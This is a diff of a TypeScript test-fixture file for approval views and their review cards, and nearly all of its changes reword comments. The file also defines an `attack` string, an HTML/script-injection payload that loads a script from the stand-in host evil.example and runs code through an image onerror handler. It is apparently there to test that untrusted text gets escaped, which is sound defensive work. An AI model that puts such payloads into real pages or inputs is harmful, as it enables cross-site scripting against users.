@@ -3,9 +3,9 @@ import type { ApprovalView } from "#src/channels/approvalView.ts";
 import { reviewCard } from "#src/channels/card/reviewCard.ts";
 import type { DraftContent } from "#streams/draft/content.ts";
 
-/** Approval views for tests: an ordinary one, and what a stranger would try. */
+/** Approval views for tests: ordinary ones, and ones with what a stranger would try. */
 
-/** A view with the card that pages and channels show. */
+/** Adds to a view the card that pages and channels show. */
 export const carded = <View extends ApprovalView>(view: View): View & CardedView => ({
   ...view,
   card: reviewCard(view),
@@ -105,7 +105,7 @@ export const withHtml: ApprovalView = {
 
 const quoted = ordinary.answers?.newText.split("\n").map((line) => `> ${line}`);
 
-/** A third version with much to say about: changes, a quotation, files, hints, somebody else to be asked. */
+/** A third version with changes, a quotation, files, hints, and a second approver to be asked. */
 export const changed: ApprovalView = {
   ...ordinary,
   version: 3,
@@ -152,7 +152,7 @@ export const rightToLeft: ApprovalView = {
   },
 };
 
-/** Each text a stranger can write tries to be markup, to turn the letters around, to hide something, or to lead somewhere. */
+/** Markup that loads from elsewhere; `hostile` has it in each text that a stranger can write, with direction marks and links. */
 export const attack = `"><script src="https://evil.example/x.js"></script><img src=https://evil.example/p.gif onerror=alert(1)>'`;
 
 export const hostile: ApprovalView = {
